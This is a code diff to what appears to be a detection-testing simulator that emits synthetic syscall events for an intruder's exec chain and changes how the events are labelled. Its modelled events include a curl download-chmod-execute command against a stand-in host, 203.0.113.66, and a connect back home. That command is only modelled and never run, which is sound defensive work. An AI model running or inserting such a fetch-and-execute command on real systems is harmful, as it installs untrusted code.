@@ -31,18 +31,18 @@ def _chain(now: int, shell: int, tool: int, number: int) -> Iterator[Event]:
     path = f"/tmp/.cache-{number}"  # noqa: S108 - a path in the model, never opened here
     step = 3 * MILLISECOND
     fetch = f"curl -so {path} http://203.0.113.66/x; chmod +x {path}; {path}"
-    yield forked(now, NGINX, shell, "attack")
+    yield forked(now, NGINX, shell, "step")
     yield executed(now + step, shell, ("sh", "-c", fetch), "/bin/sh", "attack")
-    yield forked(now + 2 * step, shell, tool, "attack")
+    yield forked(now + 2 * step, shell, tool, "step")
     yield executed(
         now + 3 * step, tool, ("curl", "-so", path, "http://203.0.113.66/x"), "/usr/bin/curl", "attack"
     )
-    yield opened(now + 4 * step, tool, path, "attack", _WRITE_CREATE)
-    yield left(now + 5 * step, tool, "attack")
-    yield Syscall(now + 6 * step, shell, "fchmodat", (AT_FDCWD, path, 0o755), 0, truth="attack")
+    yield opened(now + 4 * step, tool, path, "step", _WRITE_CREATE)
+    yield left(now + 5 * step, tool, "step")
+    yield Syscall(now + 6 * step, shell, "fchmodat", (AT_FDCWD, path, 0o755), 0, truth="step")
     yield executed(now + 7 * step, shell, (path,), path, "attack")
-    yield Syscall(now + 8 * step, shell, "connect", (3, HOME, 16), 0, truth="attack")
-    yield left(now + 9 * step, shell, "attack")
+    yield Syscall(now + 8 * step, shell, "connect", (3, HOME, 16), 0, truth="step")
+    yield left(now + 9 * step, shell, "step")
 
 
 def _attacks(values: Values) -> Iterator[Event]:
@@ -66,7 +66,10 @@ EXEC_CHAIN = Scenario(
         Parameter("period", "Milliseconds between two attacks.", 2000, 100, 600_000, "ms"),
         Parameter("typing", "Milliseconds between two ordinary commands.", 300, 10, 60_000, "ms"),
     ),
-    {"attack": "a step of the chain", "normal": "anything else"},
+    {
+        "attack": "a program run by the intruder", "step": "another step of the chain",
+        "normal": "anything else",
+    },
     frozenset({"attack"}),
     (
         "tracepoint/syscalls/sys_enter_execve", "lsm/bprm_check_security",
